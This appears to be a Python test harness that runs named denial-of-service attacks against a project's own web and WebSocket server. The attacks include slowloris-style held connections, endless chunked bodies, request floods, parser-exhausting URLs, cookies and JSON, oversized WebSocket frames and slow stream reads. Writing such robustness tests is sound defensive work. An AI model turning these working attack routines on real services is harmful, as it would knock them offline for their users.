"""Attacks on a server, each in a separate process: ``python -m tests.attacks.attackers NAME URL SECONDS
TOKENS`` (TOKENS: JSON, by role).
"""

from __future__ import annotations

import asyncio
import json
import os
import struct
import sys
import time
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass
from urllib.parse import urlsplit

Attack = Callable[["Target"], Awaitable[None]]
ATTACKS: dict[str, Attack] = {}
HANDSHAKE = (
    "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
)
ERRORS = (OSError, EOFError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, TimeoutError)


@dataclass
class Target:
    """A server, and what the attacker has stolen. ``end``: on the monotonic clock."""

    host: str
    port: int
    tokens: dict[str, str]
    end: float

    @property
    def goes_on(self) -> bool:
        return time.monotonic() < self.end

    def head(self, line: str, role: str = "", more: str = "") -> bytes:
        """A request's head without its last empty line."""
        token = f"Authorization: Bearer {self.tokens[role]}\r\n" if role else ""
        return f"{line} HTTP/1.1\r\nHost: {self.host}:{self.port}\r\n{token}{more}".encode()

    async def open(self, begun: bytes = b"") -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        reader, writer = await asyncio.open_connection(self.host, self.port)
        writer.write(begun)
        return reader, writer

    async def send(self, request: bytes) -> None:
        """Send one request on a new connection and read its response to the end."""
        reader, writer = await self.open(request)
        try:
            await asyncio.wait_for(reader.read(), 30)
        finally:
            writer.close()


def attack(function: Attack) -> Attack:
    """Known by its name, with spaces."""
    ATTACKS[function.__name__.replace("_", " ")] = function
    return function


async def many(target: Target, count: int, one: Callable[[int], Awaitable[None]]) -> None:
    """Run ``count`` at a time, each repeatedly until the end."""

    async def again(number: int) -> None:
        while target.goes_on:
            begun = time.monotonic()
            with suppress(*ERRORS):
                await one(number)
            await asyncio.sleep(0.02 if time.monotonic() - begun < 0.02 else 0)

    await asyncio.gather(*(again(number) for number in range(count)))


async def hold(target: Target, begun: bytes, more: bytes = b"", every_s: float = 1.0) -> None:
    """Open a connection and keep it, with ``more`` now and then."""
    _, writer = await target.open(begun)
    try:
        while target.goes_on and not writer.is_closing():
            await asyncio.sleep(every_s)
            writer.write(more)
    finally:
        writer.transport.abort()


@attack
async def nothing(target: Target) -> None:
    await asyncio.sleep(target.end - time.monotonic())


@attack
async def connections_without_a_request(target: Target) -> None:
    await many(target, 600, lambda _: hold(target, b""))


@attack
async def heads_without_an_end(target: Target) -> None:
    await many(target, 600, lambda _: hold(target, target.head("GET /login"), b"X-A: b\r\n"))


@attack
async def bodies_without_an_end(target: Target) -> None:
    head = target.head("POST /login", more="Content-Length: 50000\r\n") + b"\r\n"
    await many(target, 600, lambda _: hold(target, head, b"x"))


@attack
async def chunks_without_an_end(target: Target) -> None:
    head = target.head("POST /login", more="Transfer-Encoding: chunked\r\n") + b"\r\n"
    await many(target, 200, lambda _: hold(target, head, b"1\r\nx\r\n", 0.05))


@attack
async def unread_responses(target: Target) -> None:
    head = target.head("GET /api/v1/events.csv", "viewer") + b"\r\n"
    await many(target, 200, lambda _: hold(target, head))


@attack
async def requests_by_the_thousand_at_once(target: Target) -> None:
    await many(target, 8, lambda _: target.send((target.head("GET /login") + b"\r\n") * 3000))


@attack
async def addresses_with_patterns(target: Target) -> None:
    line = "GET /static/x/" + "%3A%20" * 150
    await many(target, 12, lambda _: target.send(target.head(line, more=GERMAN) + b"\r\n"))


GERMAN = "Accept-Language: de\r\nAccept: text/html\r\nConnection: close\r\n"


@attack
async def queries_with_patterns(target: Target) -> None:
    line = "GET /login?next=/&" + "%3B%20a%3A%20=" * 1200
    await many(target, 12, lambda _: target.send(target.head(line, more=GERMAN) + b"\r\n"))


@attack
async def cookies_to_unquote(target: Target) -> None:
    cookie = 'Cookie: lineside_session="' + "\\\\" * 14_000 + '"\r\nConnection: close\r\n'
    await many(target, 12, lambda _: target.send(target.head("GET /login", more=cookie) + b"\r\n"))


def post(target: Target, path: str, body: bytes, kind: str, role: str = "") -> bytes:
    more = f"Content-Type: {kind}\r\nContent-Length: {len(body)}\r\nConnection: close\r\n"
    return target.head(f"POST {path}", role, more) + b"\r\n" + body


@attack
async def forms_in_punycode(target: Target) -> None:
    part = b'--b\r\nContent-Disposition: form-data; name="name"\r\n\r\n' + b"9" * 60_000 + b"\r\n--b--\r\n"
    request = post(target, "/login", part, "multipart/form-data; charset=punycode; boundary=b")
    await many(target, 12, lambda _: target.send(request))


@attack
async def keys_by_the_thousand(target: Target) -> None:
    body = ("{" + ",".join(f'"{n}":0' for n in range(24_000)) + ',"0":0}').encode()
    path = "/api/v1/buses/line/units/1/speed"
    requests = [post(target, path, body, "application/json", role) for role in ("viewer", "engineer")]
    await many(target, 12, lambda number: target.send(requests[number % 2]))


@attack
async def documents_of_a_megabyte(target: Target) -> None:
    document = "".join(f"k{n} = 1\n" for n in range(110_000))
    body = json.dumps({"document": document}).encode()
    request = post(target, "/api/v1/buses/line/units/1/restores", body, "application/json", "engineer")
    await many(target, 6, lambda _: target.send(request))


@attack
async def keys_with_dots(target: Target) -> None:
    body = json.dumps({"document": "a." * 500_000 + "a = 1"}).encode()
    request = post(target, "/api/v1/buses/line/units/1/restores", body, "application/json", "engineer")
    await many(target, 6, lambda _: target.send(request))


@attack
async def searches(target: Target) -> None:
    head = "GET /api/v1/events?limit=1000&search=no-such-word"
    request = target.head(head, "viewer", "Connection: close\r\n") + b"\r\n"
    await many(target, 12, lambda _: target.send(request))


@attack
async def pages_of_a_thousand_events(target: Target) -> None:
    request = target.head("GET /api/v1/events?limit=1000", "viewer", "Connection: close\r\n") + b"\r\n"
    await many(target, 12, lambda _: target.send(request))


@attack
async def downloads_of_events(target: Target) -> None:
    request = target.head("GET /api/v1/events.csv", "viewer", "Connection: close\r\n") + b"\r\n"
    await many(target, 12, lambda _: target.send(request))


@attack
async def tokens_to_guess(target: Target) -> None:
    more = "Authorization: Bearer guess\r\nConnection: close\r\n"
    await many(target, 12, lambda _: target.send(target.head("GET /api/v1/line", more=more) + b"\r\n"))


@attack
async def pages_without_a_sign_in(target: Target) -> None:
    await many(target, 12, lambda _: target.send(target.head("GET /login", more=GERMAN) + b"\r\n"))


def frame(opcode: int, payload: bytes = b"", size: int | None = None) -> bytes:
    """Return a frame as a client sends it (RFC 6455, 5.2), masked with zeros; ``size``: the length that it
    claims.
    """
    size = len(payload) if size is None else size
    length = bytes([0x80 | size]) if size < 126 else struct.pack("!BQ", 0x80 | 127, size)
    return bytes([opcode]) + length + b"\0\0\0\0" + payload


async def live(target: Target, flood: bytes, every_s: float, *, reads: bool) -> None:
    """A page that sends ``flood`` again and again."""
    origin = f"Origin: http://{target.host}:{target.port}\r\n"
    reader, writer = await target.open(target.head("GET /live", "viewer", origin + HANDSHAKE) + b"\r\n")
    reading = None
    try:
        await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 60)
        reading = asyncio.create_task(_read(reader)) if reads else None
        while target.goes_on and not writer.is_closing():
            writer.write(flood)
            await asyncio.wait_for(writer.drain(), 10)
            await asyncio.sleep(every_s)
    finally:
        writer.transport.abort()
        if reading is not None:
            reading.cancel()


async def _read(reader: asyncio.StreamReader) -> None:
    with suppress(*ERRORS):
        while await reader.read(65536):
            pass


SNAPSHOT = frame(0x81, b'{"want":"snapshot"}')
EVERYTHING = frame(0x81, json.dumps({"units": [f"line/{n}" for n in range(1, 256)]}).encode())


@attack
async def snapshots_without_end(target: Target) -> None:
    await many(target, 20, lambda _: live(target, SNAPSHOT * 2000, 1.0, reads=False))


@attack
async def snapshots_at_the_limit(target: Target) -> None:
    await many(target, 50, lambda _: live(target, SNAPSHOT, 0.2, reads=True))


@attack
async def pages_by_the_hundred(target: Target) -> None:
    await many(target, 400, lambda _: live(target, EVERYTHING, 2.0, reads=True))


@attack
async def pages_that_turn(target: Target) -> None:
    turning = EVERYTHING + frame(0x81, b"{}")
    await many(target, 50, lambda _: live(target, turning, 0.25, reads=True))


async def open_and_close(target: Target) -> None:
    """A page that leaves once its WebSocket is open."""
    begun = target.head("GET /live", "viewer", f"Origin: http://{target.host}:{target.port}\r\n" + HANDSHAKE)
    reader, writer = await target.open(begun + b"\r\n")
    try:
        await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
    finally:
        writer.transport.abort()


@attack
async def pages_that_open_and_close(target: Target) -> None:
    await many(target, 12, lambda _: open_and_close(target))


@attack
async def pages_by_the_hundred_that_open_and_close(target: Target) -> None:
    await many(target, 200, lambda _: open_and_close(target))


@attack
async def forms_in_two_parts(target: Target) -> None:
    more = "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 6\r\nConnection: close\r\n"
    head = target.head("POST /login", more=f"{more}Accept: text/html\r\n") + b"\r\n"

    async def one(_: int) -> None:
        reader, writer = await target.open(head)
        try:
            await asyncio.sleep(0.05)
            writer.write(b"name=a")
            await asyncio.wait_for(reader.read(), 30)
        finally:
            writer.close()

    await many(target, 300, one)


@attack
async def streams_that_no_one_reads(target: Target) -> None:
    head = target.head("GET /api/v1/stream", "viewer") + b"\r\n"
    await many(target, 100, lambda _: hold(target, head))


async def sip(target: Target, begun: bytes, every_s: float = 0.5) -> None:
    """Send ``begun`` and read its response a few bytes at a time."""
    reader, writer = await target.open(begun)
    try:
        while target.goes_on:
            await asyncio.wait_for(reader.readexactly(16), 30)
            await asyncio.sleep(every_s)
    finally:
        writer.transport.abort()


@attack
async def streams_read_slowly(target: Target) -> None:
    heads = [target.head("GET /api/v1/stream", role) + b"\r\n" for role in ("viewer", "operator", "admin")]
    await many(target, 60, lambda number: sip(target, heads[number % 3]))


@attack
async def streams_without_a_sign_in(target: Target) -> None:
    head = target.head("GET /api/v1/stream") + b"\r\n"
    await many(target, 200, lambda _: hold(target, head))


@attack
async def wallboards_without_end(target: Target) -> None:
    request = target.head("GET /wallboard", "viewer", "Connection: close\r\n") + b"\r\n"
    await many(target, 12, lambda _: target.send(request))


@attack
async def wallboards_without_a_sign_in(target: Target) -> None:
    request = target.head("GET /wallboard", more="Connection: close\r\nAccept: text/html\r\n") + b"\r\n"
    await many(target, 60, lambda _: target.send(request))


@attack
async def wallboards_read_slowly(target: Target) -> None:
    head = target.head("GET /wallboard", "viewer") + b"\r\n"
    await many(target, 200, lambda _: sip(target, head))


EVERY_LINE = frame(0x81, b'{"lines":true,"want":"snapshot"}')


@attack
async def wallboards_by_the_hundred_that_no_one_reads(target: Target) -> None:
    await many(target, 200, lambda _: live(target, EVERY_LINE, 0.5, reads=False))


@attack
async def streams_that_open_and_close(target: Target) -> None:
    head = target.head("GET /api/v1/stream", "viewer", "Connection: close\r\n") + b"\r\n"

    async def one(_: int) -> None:
        reader, writer = await target.open(head)
        try:
            await asyncio.wait_for(reader.read(1), 30)
        finally:
            writer.close()

    await many(target, 40, one)


@attack
async def pings_without_end(target: Target) -> None:
    await many(target, 20, lambda _: live(target, frame(0x89, b"x" * 100) * 2000, 0.05, reads=False))


@attack
async def frames_of_a_hundred_megabytes(target: Target) -> None:
    flood = frame(0x81, b"x" * 60_000, size=100_000_000)
    await many(target, 20, lambda _: live(target, flood, 0.05, reads=True))


@attack
async def fragments_without_end(target: Target) -> None:
    await many(target, 20, lambda _: live(target, frame(0x01) + frame(0x00) * 5000, 0.05, reads=True))


@attack
async def frames_before_the_response(target: Target) -> None:
    head = target.head("GET /live", "viewer", f"Origin: http://{target.host}:{target.port}\r\n" + HANDSHAKE)
    flood = head + b"\r\n" + frame(0x81, b"x" * 60_000, size=100_000_000)
    await many(target, 20, lambda _: target.send(flood))


async def pour(target: Target, head: bytes, flood: bytes) -> None:
    """Send a head and then ``flood`` as quickly as it is taken, until the server ends the connection."""
    reader, writer = await target.open(head)
    reading = asyncio.create_task(_read(reader))
    try:
        while target.goes_on and not writer.is_closing():
            writer.write(flood)
            await asyncio.wait_for(writer.drain(), 10)
    finally:
        writer.transport.abort()
        reading.cancel()


def chunked(target: Target) -> bytes:
    """The head of a form whose body comes in chunks."""
    return target.head("POST /login", more="Transfer-Encoding: chunked\r\n") + b"\r\n"


CHUNKS = b"1\r\na\r\n" * 20_000
EXTENSION = b"1;" + b"x" * 120_000 + b"\r\na\r\n"


@attack
async def chunks_of_a_byte(target: Target) -> None:
    await many(target, 1, lambda _: pour(target, chunked(target), CHUNKS))


@attack
async def chunks_of_a_byte_four_times(target: Target) -> None:
    await many(target, 4, lambda _: pour(target, chunked(target), CHUNKS))


@attack
async def chunk_extensions_without_end(target: Target) -> None:
    await many(target, 4, lambda _: pour(target, chunked(target), EXTENSION))


@attack
async def one_chunk_extension_without_end(target: Target) -> None:
    await many(target, 4, lambda _: pour(target, chunked(target) + b"1;", b"x" * 120_000))


@attack
async def blank_lines_without_end(target: Target) -> None:
    request = target.head("GET /healthz") + b"\r\n"
    await many(target, 4, lambda _: pour(target, request, b"\r\n" * 60_000))


@attack
async def health_by_64_connections(target: Target) -> None:
    request = target.head("GET /healthz") + b"\r\n"

    async def poll(_: int) -> None:
        reader, writer = await target.open(request * 6)
        try:
            while target.goes_on:
                await asyncio.wait_for(reader.readuntil(b'{"status":"ok"}'), 30)
                writer.write(request)
        finally:
            writer.transport.abort()

    await many(target, 64, poll)


@attack
async def a_connection_for_each_request(target: Target) -> None:
    request = target.head("GET /healthz", more="Connection: close\r\n") + b"\r\n"

    async def one_after_another(_: int) -> None:
        while target.goes_on:
            await target.send(request)

    await many(target, 32, one_after_another)


@attack
async def descriptions_of_every_call(target: Target) -> None:
    more = "Connection: close\r\n"
    request = target.head("GET /api/v1/openapi.json", "viewer", more) + b"\r\n"
    await many(target, 16, lambda _: target.send(request))


@attack
async def descriptions_compressed(target: Target) -> None:
    more = "Accept-Encoding: gzip\r\nConnection: close\r\n"
    request = target.head("GET /api/v1/openapi.json", "viewer", more) + b"\r\n"
    await many(target, 16, lambda _: target.send(request))


async def feed(target: Target, begun: bytes, flood: bytes = b"", *, reads: bool = True) -> None:
    """A stolen worker token: ``begun`` before any Hello, and ``flood`` without end."""
    reader, writer = await target.open(target.head("GET /feed", "worker", HANDSHAKE) + b"\r\n")
    reading = None
    try:
        await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 60)
        reading = asyncio.create_task(_read(reader)) if reads else None
        writer.write(begun)
        while target.goes_on and not writer.is_closing() and not reader.at_eof():
            writer.write(flood)
            await asyncio.wait_for(writer.drain(), 10)
            await asyncio.sleep(0 if flood else 0.2)
    finally:
        writer.transport.abort()
        if reading is not None:
            reading.cancel()


@attack
async def empty_messages_before_hello(target: Target) -> None:
    await many(target, 8, lambda _: feed(target, b"", frame(0x82) * 20_000))


@attack
async def pings_before_hello(target: Target) -> None:
    await many(target, 8, lambda _: feed(target, b"", frame(0x89) * 20_000))


@attack
async def empty_fragments_before_hello(target: Target) -> None:
    await many(target, 8, lambda _: feed(target, frame(0x02), frame(0x00) * 20_000))


@attack
async def unfinished_messages_before_hello(target: Target) -> None:
    begun = frame(0x82, b"x" * 3_000_000, size=4_000_000)
    await many(target, 20, lambda _: feed(target, begun))


async def main(name: str, url: str, seconds: float, tokens: dict[str, str]) -> None:
    """Attack for so long, with one core."""
    os.sched_setaffinity(0, {max(os.sched_getaffinity(0))})
    parts = urlsplit(url)
    target = Target(parts.hostname or "", parts.port or 80, tokens, time.monotonic() + seconds)
    with suppress(TimeoutError):
        await asyncio.wait_for(ATTACKS[name](target), seconds + 1)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2], float(sys.argv[3]), json.loads(sys.argv[4])))
